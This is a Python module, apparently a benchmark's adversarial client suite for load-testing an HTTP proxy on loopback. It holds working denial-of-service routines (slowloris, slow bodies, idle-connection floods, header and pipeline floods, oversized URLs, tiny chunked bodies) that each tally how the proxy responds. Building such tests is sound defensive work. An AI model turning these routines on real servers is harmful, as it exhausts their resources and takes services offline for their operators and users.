"""Hostile and broken clients, each bounded in bytes, connections and time.

Every attack is an async function of (host, port, seconds) that returns a tally of what
the proxy answered it (the status of each answer, or how the connection ended: "closed",
"reset", "silent"). None of them reads more than it must: the point of most is not to
read at all. They send only to the address given (the benchmark gives loopback).
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable

Attack = Callable[[str, int, float], Awaitable[Counter[str]]]

PIECE = 64 * 1024  # bytes per write of a flood
HEAD = b"Host: attack\r\n"


async def _open(
    host: str, port: int, rcvbuf: int | None = None
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection; ``rcvbuf`` shrinks the kernel's receive buffer, so that a client
    that does not read is felt by the proxy at once rather than after megabytes."""
    sock = socket.socket()
    if rcvbuf is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (host, port))
    return await asyncio.open_connection(sock=sock)


async def _answer(reader: asyncio.StreamReader, within: float) -> str:
    """The status of the first answer on the connection, or how it ended."""
    try:
        line = await asyncio.wait_for(reader.readline(), within)
    except TimeoutError:
        return "silent"
    except (ConnectionError, OSError):
        return "reset"
    parts = line.split()
    return parts[1].decode() if len(parts) > 1 and line.startswith(b"HTTP/") else "closed"


async def _flood(writer: asyncio.StreamWriter, data: Callable[[], bytes], total: int,
                 until: float) -> None:  # fmt: skip
    """Write ``data()`` pieces until ``total`` bytes or the deadline, whichever first;
    a proxy that stops reading (or closes) ends it early."""
    sent = 0
    with contextlib.suppress(ConnectionError, OSError, TimeoutError):
        while sent < total and time.monotonic() < until:
            piece = data()
            writer.write(piece)
            sent += len(piece)
            await asyncio.wait_for(writer.drain(), max(0.01, until - time.monotonic()))


def _close(writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(Exception):
        writer.transport.abort()


async def huge_url(host: str, port: int, seconds: float) -> Counter[str]:
    """A request target of up to 64 MB, sent as fast as the proxy takes it."""
    until = time.monotonic() + seconds
    reader, writer = await _open(host, port)
    writer.write(b"GET /")
    flood = asyncio.ensure_future(_flood(writer, lambda: b"a" * PIECE, 64 << 20, until))
    answer = await _answer(reader, seconds)
    flood.cancel()
    _close(writer)
    return Counter([answer])


async def many_headers(host: str, port: int, seconds: float) -> Counter[str]:
    """10,000 header fields in one request."""
    reader, writer = await _open(host, port)
    fields = b"".join(b"X-H%d: v\r\n" % i for i in range(10_000))
    with contextlib.suppress(ConnectionError, OSError):
        writer.write(b"GET /predict HTTP/1.1\r\n" + HEAD + fields + b"\r\n")
    answer = await _answer(reader, seconds)
    _close(writer)
    return Counter([answer])


async def header_flood(host: str, port: int, seconds: float) -> Counter[str]:
    """16 MB of small header fields that never end."""
    until = time.monotonic() + seconds
    reader, writer = await _open(host, port)
    writer.write(b"GET /predict HTTP/1.1\r\n" + HEAD)
    field = b"X-Filler: " + b"f" * 40 + b"\r\n"
    piece = field * (PIECE // len(field))
    flood = asyncio.ensure_future(_flood(writer, lambda: piece, 16 << 20, until))
    answer = await _answer(reader, seconds)
    flood.cancel()
    _close(writer)
    return Counter([answer])


async def tiny_chunks(host: str, port: int, seconds: float) -> Counter[str]:
    """A 9.6 MB request body in 2-byte chunks (under a 10 MB body limit)."""
    until = time.monotonic() + seconds
    reader, writer = await _open(host, port)
    writer.write(b"POST /predict HTTP/1.1\r\n" + HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
    piece = b"2\r\nab\r\n" * (PIECE // 7)
    total = 9_600_000 // 2 * 7
    await _flood(writer, lambda: piece, total, until)
    with contextlib.suppress(ConnectionError, OSError):
        writer.write(b"0\r\n\r\n")
    answer = await _answer(reader, max(0.1, until - time.monotonic()))
    _close(writer)
    return Counter([answer])


async def pipeline_flood(host: str, port: int, seconds: float) -> Counter[str]:
    """64 MB of pipelined ``GET /health`` on a connection that never reads its answers."""
    until = time.monotonic() + seconds
    reader, writer = await _open(host, port, rcvbuf=4096)
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    request = b"GET /health HTTP/1.1\r\n" + HEAD + b"\r\n"
    piece = request * (PIECE // len(request))
    await _flood(writer, lambda: piece, 64 << 20, until)
    await asyncio.sleep(max(0.0, until - time.monotonic()))
    ended = writer.transport.is_closing() or reader.at_eof()
    _close(writer)
    return Counter(["cut off" if ended else "held"])


async def slow_readers(host: str, port: int, seconds: float) -> Counter[str]:
    """Four clients that ask for a long stream and read none of it."""
    body = b'{"inputs": [1], "stream": true}'
    request = (b"POST /predict?stream=1 HTTP/1.1\r\n" + HEAD +
               b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%b"
               % (len(body), body))  # fmt: skip
    conns = []
    for _ in range(4):
        reader, writer = await _open(host, port, rcvbuf=4096)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(request)
        conns.append((reader, writer))
    await asyncio.sleep(seconds)
    tally = Counter("cut off" if w.transport.is_closing() else "held" for _, w in conns)
    for _, writer in conns:
        _close(writer)
    return tally


Step = Callable[[asyncio.StreamWriter, int], bytes | None]


async def _hold(host: str, port: int, count: int, seconds: float, step: Step) -> Counter[str]:
    """``count`` connections that each write ``step(writer, tick)`` once a second (None:
    nothing) for ``seconds``; the tally is how each had ended by then."""
    until = time.monotonic() + seconds
    conns: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    tally: Counter[str] = Counter()
    for _ in range(count):
        try:
            conns.append(await _open(host, port))
        except OSError:
            tally["refused"] += 1
    tick = 0
    while time.monotonic() < until:
        for _, writer in conns:
            data = step(writer, tick)
            if data and not writer.transport.is_closing():
                with contextlib.suppress(ConnectionError, OSError):
                    writer.write(data)
        tick += 1
        await asyncio.sleep(min(1.0, max(0.0, until - time.monotonic())))
    for reader, writer in conns:
        if reader.at_eof() or writer.transport.is_closing():
            tally["closed"] += 1
        elif reader._buffer:  # type: ignore[attr-defined]  # an answer sits unread
            tally[(await _answer(reader, 0.1))] += 1
        else:
            tally["held"] += 1
        _close(writer)
    return tally


async def idle_flood(host: str, port: int, seconds: float) -> Counter[str]:
    """2000 connections that send nothing."""
    return await _hold(host, port, 2000, seconds, lambda w, t: None)


async def slowloris(host: str, port: int, seconds: float) -> Counter[str]:
    """500 connections that send a request head one header line a second, never ending."""

    def step(writer: asyncio.StreamWriter, tick: int) -> bytes:
        return b"GET /predict HTTP/1.1\r\n" if tick == 0 else b"X-Slow-%d: 1\r\n" % tick

    return await _hold(host, port, 500, seconds, step)


async def slow_bodies(host: str, port: int, seconds: float) -> Counter[str]:
    """200 uploads that announce 1 MB and send 1 KB a second."""

    def step(writer: asyncio.StreamWriter, tick: int) -> bytes:
        head = b"POST /predict HTTP/1.1\r\n" + HEAD + b"Content-Length: 1048576\r\n\r\n"
        return (head if tick == 0 else b"") + b"b" * 1024

    return await _hold(host, port, 200, seconds, step)


ATTACKS: dict[str, Attack] = {
    "huge-url": huge_url,
    "many-headers": many_headers,
    "header-flood": header_flood,
    "tiny-chunks": tiny_chunks,
    "pipeline-flood": pipeline_flood,
    "slow-readers": slow_readers,
    "idle-flood": idle_flood,
    "slowloris": slowloris,
    "slow-bodies": slow_bodies,
}
